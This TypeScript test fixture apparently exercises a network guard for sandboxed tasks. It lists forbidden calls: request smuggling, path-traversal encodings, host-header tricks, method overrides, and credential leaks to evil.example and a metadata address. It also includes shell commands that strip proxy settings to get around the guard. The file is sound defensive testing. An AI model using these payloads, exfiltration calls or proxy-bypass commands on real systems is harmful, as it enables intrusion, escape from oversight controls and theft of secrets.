import { spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { base, call, guard, heard, place, say, tunnel, variable } from './calling.ts';

/**
 * Calls that a task may not make, and credentials where they do not belong. Each has a path or a host of its own, by
 * which it is found in the log. `/v1/**` is what its requests allow, with GET and POST.
 */
export const calls = {
  allowed: () => call('/v1/allowed'),

  // Other places.
  address: () => call('https://192.0.2.1/address'),
  name: () => call('https://evil.example/name'),
  six: () => call('https://[2001:db8::1]/six'),
  loopbackSix: () => call(`https://[::1]:${new URL(base).port}/loopback-six`),
  otherPort: () => call(`https://localhost:${variable('OTHER_PORT')}/other-port`),
  decimalAddress: () => say(get('/decimal'), { authority: '2130706433:443', servername: 'x' }),
  hexAddress: () => say(get('/hex'), { authority: '0x7f.1:443', servername: 'x' }),
  userInAuthority: () => tunnel(`user:word@${place}`).then(() => 'opened'),
  metadata: () => call('http://169.254.169.254/latest/meta-data/'),
  subdomain: () => call(`https://api.localhost:${new URL(base).port}/subdomain`),
  otherProtocol: () => tunnel(place).then((socket) => heard(socket, '\u0000\u0001binary')),
  plainOnPort: () => tunnel(place).then((socket) => heard(socket, text(get('/v1/plain')))),

  // Led elsewhere.
  redirectAway: () => call('/v1/redirect-away'),
  redirectBack: () => call('/v1/redirect-inside'),
  redirectTrusted: () => curl('-L --location-trusted -X POST -d a=b', '/v1/redirect-trusted'),

  // A host named twice.
  hostHeader: () => say(get('/v1/host-header', 'evil.example')),
  hostTwice: () => say([...get('/v1/host-twice').slice(0, -2), 'Host: evil.example', '', '']),
  noHost: () => say(['GET /v1/no-host HTTP/1.1', 'Authorization: Bearer KEY', '', '']),
  hostInUser: () => say(get('/v1/host-in-user', 'PLACE@evil.example')),
  serverName: () => say(get('/v1/server-name'), { servername: 'evil.example' }),
  absoluteInside: () => say(['GET https://evil.example/v1/absolute HTTP/1.1', ...get('/').slice(1)]),
  absoluteToProxy: () => toProxy(['GET http://evil.example/absolute-proxy HTTP/1.1', 'Host: evil.example']),
  absoluteDiffers: () => toProxy([`GET http://${place}/v1/absolute-differs HTTP/1.1`, 'Host: evil.example']),
  relativeToProxy: () => toProxy(['GET /v1/relative HTTP/1.1', `Host: ${place}`]),
  tunnelInTunnel: () => say(['CONNECT evil.example:443 HTTP/1.1', 'Host: PLACE', '', '']),

  // Paths that are read in two ways.
  dots: () => say(get('/v1/a/../../dots')),
  encodedDots: () => say(get('/v1/%2e%2e/encoded-dots')),
  mixedDots: () => say(get('/v1/.%2E/mixed-dots')),
  dotsWithParameter: () => say(get('/v1/..;a=b/dots-parameter')),
  dotsWithEncodedParameter: () => say(get('/v1/..%3b/dots-encoded-parameter')),
  overlongDots: () => say(get('/v1/%c0%ae%c0%ae/overlong')),
  twiceEncoded: () => say(get('/v1/%252e%252e/twice')),
  encodedSlash: () => say(get('/v1/..%2fencoded-slash')),
  backslash: () => say(get('/v1/..\\backslash')),
  encodedBackslash: () => say(get('/v1/..%5cencoded-backslash')),
  emptySegment: () => say(get('//v1/empty-segment')),
  encodedQuestion: () => say(get('/v1/a%3f/encoded-question')),
  encodedNull: () => say(get('/v1/a%00/null')),
  fragment: () => say(get('/v1/a#/fragment')),
  upperCase: () => say(get('/V1/upper-case')),
  otherPath: () => call('/v2/other-path'),

  // Other methods.
  method: () => call('/v1/method', { method: 'DELETE' }),
  tracing: () => say(['TRACE /v1/trace HTTP/1.1', ...get('/').slice(1)]),
  lowerCaseMethod: () => say(['get /v1/lower-case HTTP/1.1', ...get('/').slice(1)]),
  overrideHeader: () => call('/v1/override', { method: 'POST', headers: { 'X-HTTP-Method-Override': 'DELETE' } }),
  overrideOther: () => call('/v1/override-other', { method: 'POST', headers: { 'x-method-override': 'put' } }),
  overrideForm: () =>
    call('/v1/override-form', { method: 'POST', body: new URLSearchParams({ a: '1', _method: 'DELETE' }) }),
  overrideQuery: () => call('/v1/override-query?_method=DELETE', { method: 'POST' }),

  // Two calls in the place of one.
  twoLengths: () => say(post('/v1/two-lengths', ['Content-Length: 0', `Content-Length: ${hidden.length}`], hidden)),
  lengthAndChunks: () =>
    say(post('/v1/length-chunks', [`Content-Length: ${hidden.length + 5}`, chunked], `0\r\n\r\n${hidden}`)),
  spacedChunks: () => say(post('/v1/spaced-chunks', ['Transfer-Encoding : chunked'], `0\r\n\r\n${hidden}`)),
  chunksNotLast: () => say(post('/v1/chunks-not-last', ['Transfer-Encoding: chunked, identity'], hidden)),
  smuggled: () => say(post('/v1/smuggling', ['Content-Length: 0'], hidden)),
  protocolUpgrade: () =>
    say([...get('/v1/upgrade').slice(0, -2), 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', '', hidden]),
  priorKnowledge: () => say(['PRI * HTTP/2.0', '', 'SM', '', '']),

  // The placeholder where it does not belong.
  ownHost: () => call(`https://localhost:${variable('OWN_PORT')}/own-host`),
  header: () => call('/v1/header', { headers: { 'x-note': variable('ACME') } }),
  cookie: () => call('/v1/cookie', { headers: { cookie: `a=${variable('ACME')}` } }),
  query: () => call(`/v1/query?key=${variable('ACME')}`),
  path: () => call(`/v1/path/${variable('ACME')}`),
  body: () => call('/v1/body', { method: 'POST', body: JSON.stringify({ key: variable('ACME') }) }),
  bodyInPieces: () =>
    call('/v1/pieces', { method: 'POST', body: inPieces(variable('ACME')), duplex: 'half' } as object),
  bodyInBase64: () => call('/v1/base64-body', { method: 'POST', body: base64(`a:${variable('ACME')}`) }),
  headerInBase64: () => call('/v1/base64', { headers: { 'x-note': base64(variable('ACME')) } }),
  userInfo: () => curl('', `https://x:${variable('ACME')}@evil.example/user-info`),
  notEnough: () => call('/v1/not-enough', { headers: { authorization: `Bearer ${variable('ACME').slice(0, -1)}` } }),
  earlier: () => call('/v1/earlier', { headers: { authorization: `Bearer ${variable('EARLIER')}` } }),
  once: async () => `${await call('/v1/once', { as: 'ONCE' })}, ${await call('/v1/twice', { as: 'ONCE' })}`,
} satisfies Readonly<Record<string, () => Promise<string>>>;

/** What is left to a task that goes around the guard. */
export const around = {
  rawSocket: () => connected('127.0.0.1', Number(new URL(base).port)),
  rawSocketSix: () => connected('::1', Number(new URL(base).port)),
  farAddress: () => connected('192.0.2.1', 443),
  noProxyVariable: () =>
    shell('NO_PROXY="*" no_proxy="*" curl -sS -m 3 -f -X DELETE -o /dev/null "$BASE/v1/around" 2>/dev/null'),
  noProxyOption: () => shell('curl -sS --noproxy "*" -m 3 -f -X DELETE -o /dev/null "$BASE/v1/around" 2>/dev/null'),
  noVariables: () =>
    shell(
      'env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -sS -m 3 -f -X DELETE "$BASE/v1/around" 2>/dev/null',
    ),
} satisfies Readonly<Record<string, () => Promise<string>>>;

export function connected(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port, timeout: 1_500 });
    const end = (settle: () => void): void => {
      socket.destroy();
      settle();
    };
    socket.once('connect', () => end(() => resolve('connected')));
    socket.once('timeout', () => end(() => reject(new Error('TIMEOUT'))));
    socket.once('error', reject);
  });
}

/** The exit status and what was printed. */
export async function shell(line: string): Promise<string> {
  const { status, stdout } = spawnSync('sh', ['-c', line], { encoding: 'utf8', timeout: 8_000 });
  return `${status} ${stdout.trim()}`.trim();
}

async function curl(options: string, url: string): Promise<string> {
  const key = url.startsWith('/') ? `-H "Authorization: Bearer $ACME" "$BASE${url}"` : `"${url}"`;
  return (await shell(`curl -sS -m 5 ${options} ${key} | grep -o '"code":"[a-z-]*"'`)).replace(/"code":|"/g, '');
}

const chunked = 'Transfer-Encoding: chunked';
/** The call that is to slip through behind another. */
const hidden = text(['DELETE /v1/smuggled HTTP/1.1', ...get('/').slice(1)]);

function get(path: string, host = 'PLACE'): readonly string[] {
  return [`GET ${path} HTTP/1.1`, `Host: ${host}`, 'Authorization: Bearer KEY', '', ''];
}

function post(path: string, headers: readonly string[], body: string): readonly string[] {
  return [`POST ${path} HTTP/1.1`, ...get('/').slice(1, -2), ...headers, '', body];
}

function text(lines: readonly string[]): string {
  return lines.join('\r\n').replaceAll('PLACE', place).replaceAll('KEY', variable('ACME'));
}

/** In the form that proxies get, with nothing around it. */
async function toProxy([first = '', ...rest]: readonly string[]): Promise<string> {
  const { host, port, headers } = guard();
  const own = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
  const lines = [first, ...rest, ...own, 'Authorization: Bearer KEY', 'Connection: close', '', ''];
  return await heard(connect({ host, port: Number(port) }), text(lines));
}

function base64(plain: string): string {
  return Buffer.from(plain).toString('base64');
}

async function* inPieces(plain: string): AsyncGenerator<Buffer> {
  for (const character of plain) {
    yield Buffer.from(character);
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
}
